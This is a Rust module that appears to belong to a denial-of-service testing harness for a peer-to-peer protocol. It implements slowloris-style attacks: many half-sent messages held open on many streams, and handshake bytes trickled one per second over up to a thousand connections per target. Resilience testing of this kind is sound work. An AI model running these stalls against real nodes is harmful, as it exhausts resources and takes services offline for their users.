//! Things that are begun and not ended.

use std::sync::Arc;
use std::time::Duration;

use futures::{AsyncReadExt, AsyncWriteExt};
use paceline_protocol::bounds::MESSAGE_BYTES_MAX;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::Attack;
use crate::enemy::Enemy;
use crate::target::Target;

/// Identities against each target, with four connections each.
const IDENTITIES: usize = 4;
const CONNECTIONS: usize = 4;

/// Streams of each identity: more than one may have.
const STREAMS: usize = 160;

/// What is said of a message.
static ZEROS: [u8; MESSAGE_BYTES_MAX] = [0; MESSAGE_BYTES_MAX];

/// Handshakes at a time against each target.
const HANDSHAKES: usize = 1_000;

/// See [`crate::Kind::Stall`].
pub(crate) async fn messages(attack: Arc<Attack>) {
    let work = |attack: Arc<Attack>, enemy: Enemy, target: Target, _| async move {
        if !enemy.connect(&target).await {
            return;
        }
        for _ in 1..CONNECTIONS {
            enemy.connect(&target).await;
        }
        let one = |i: usize| {
            let (attack, enemy, target) = (&attack, &enemy, &target);
            async move {
                let mut failures = 0;
                while attack.goes_on() && failures < 3 {
                    failures += 1;
                    let protocol = match i % 8 {
                        0 => &attack.names.blobs,
                        1 => &attack.names.exchange,
                        _ => &attack.names.direct,
                    };
                    let Some(mut stream) = enemy.open(target, protocol).await else { continue };
                    let len = if i % 8 < 2 { 30 } else { MESSAGE_BYTES_MAX };
                    let say = async {
                        stream.write_all(&(len as u32).to_le_bytes()).await?;
                        stream.write_all(&ZEROS[..len - 1]).await?;
                        stream.flush().await
                    };
                    if say.await.is_ok() {
                        attack.tally.sent(len);
                        failures = 0;
                        // Until it is cut off.
                        let _ = stream.read(&mut [0]).await;
                    }
                }
            }
        };
        futures::future::join_all((0..STREAMS).map(one)).await;
    };
    attack.with_enemies(IDENTITIES, work).await;
}

/// See [`crate::Kind::StallHandshake`].
pub(crate) async fn handshakes(attack: Arc<Attack>) {
    let mut tasks = tokio::task::JoinSet::new();
    for target in &attack.targets {
        for _ in 0..attack.identities.unwrap_or(HANDSHAKES) {
            let (attack, socket) = (attack.clone(), target.socket());
            tasks.spawn(async move {
                while attack.goes_on() {
                    if let Some(socket) = socket {
                        trickle(&attack, socket).await;
                    }
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
            });
        }
    }
    while tasks.join_next().await.is_some() {}
}

/// The first words of a handshake, a byte a second.
async fn trickle(attack: &Attack, socket: std::net::SocketAddr) {
    let mut stream = match tokio::net::TcpStream::connect(socket).await {
        Ok(stream) => stream,
        Err(error) => return attack.tally.dial_failed(&error.to_string()),
    };
    attack.tally.connected();
    let (mut read, mut write) = stream.split();
    let say = async {
        for byte in b"\x13/multistream/1.0.0\n\x07/noise\n".iter().chain(&[0u8; 60]) {
            if write.write_all(&[*byte]).await.is_err() {
                return;
            }
            attack.tally.sent(1);
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    };
    let closed = async {
        let mut heard = [0; 64];
        while matches!(read.read(&mut heard).await, Ok(1..)) {}
    };
    tokio::select! {
        () = say => {}
        () = closed => attack.tally.closed(),
    }
}
